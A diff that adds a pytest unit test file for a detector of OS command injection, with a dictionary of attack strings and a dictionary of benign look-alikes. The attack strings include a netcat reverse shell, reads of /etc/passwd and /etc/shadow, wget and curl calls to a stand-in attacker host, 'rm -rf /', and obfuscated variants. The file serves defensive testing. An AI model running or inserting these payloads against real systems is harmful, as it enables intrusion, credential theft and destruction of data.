@@ -1,0 +1,68 @@
+"""Unit: OS command injection by shell grammar (separator + command + shell-looking argument)."""
+
+from __future__ import annotations
+
+import pytest
+
+from bastion.detection.shell import is_cmdi, normalize
+
+ATTACKS = {
+    "semicolon_cat": "; cat /etc/passwd",
+    "pipe_id": "|id",
+    "and_whoami": "x && whoami",
+    "backticks_whole_value": "`id`",
+    "dollar_substitution": "$(whoami)",
+    "after_ip_address": "127.0.0.1; ls -la",
+    "reverse_shell": "a|nc -e /bin/sh 10.0.0.1 4444",
+    "ifs_obfuscation": ";cat${IFS}/etc/passwd",
+    "quote_obfuscation": "; w'h'o'am'i",
+    "windows_ping": "& ping -n 10 127.0.0.1",
+    "pipe_sleep": "| sleep 5",
+    "glued_backticks": "foo`uname -a`",
+    "download": "1;wget http://evil.example/x.sh",
+    "newline_id": "x\nid\n",
+    "absolute_path_binary": "; /bin/bash -i",
+    "or_curl": "|| curl evil.example",
+    "echo_variable": "test; echo $PATH",
+    "substitution_with_path": "$(cat /etc/shadow)",
+    "windows_dir": "& dir c:\\",
+    "powershell_encoded": "| powershell -enc SQBFAFgA",
+    "bare_uname": ";uname",
+    "rm_rf": "a;rm -rf /",
+}
+
+BENIGN = {
+    "cartoon_and_cats": "Tom & Jerry; cat lovers",
+    "ampersand_list": "A & B & more",
+    "markdown_table": "| id | integer |\n|---|---|",
+    "markdown_inline_code": "Run `ls -la` in the dir",
+    "markdown_code_at_start": "`id` is required",
+    "rock_and_roll": "rock & roll",
+    "at_and_t_sleep_well": "AT&T; sleep well",
+    "jquery_ready": "$(document).ready(fn)",
+    "ping_me_later": "Hey; ping me later",
+    "department_pipes": "R&D | sales",
+    "pros_cons": "Pros; cons",
+    "js_operators_prose": "Use && and || in JS",
+    "fish_and_chips": "Fish & chips; type: food",
+    "see_more": "Notes; see more below",
+    "price_pipe": "I paid $5 | no refunds",
+    "shell_snippet_pipe_head": "ls -la /var/log | head",
+    "git_snippet_pipe_wc": "git log --oneline | wc -l",
+    "install_script_snippet": "curl -fsSL https://get.example.com | sh",
+}
+
+
+@pytest.mark.parametrize("payload", ATTACKS.values(), ids=ATTACKS.keys())
+def test_detects_command_injection(payload: str) -> None:
+    assert is_cmdi(payload) is not None
+
+
+@pytest.mark.parametrize("text", BENIGN.values(), ids=BENIGN.keys())
+def test_passes_benign_text_and_snippets(text: str) -> None:
+    assert is_cmdi(text) is None
+
+
+def test_normalize_undoes_ifs_and_quote_splitting() -> None:
+    assert normalize("cat${IFS}/etc/passwd") == "cat /etc/passwd"
+    assert normalize('w"h"o\\ami') == "whoami"
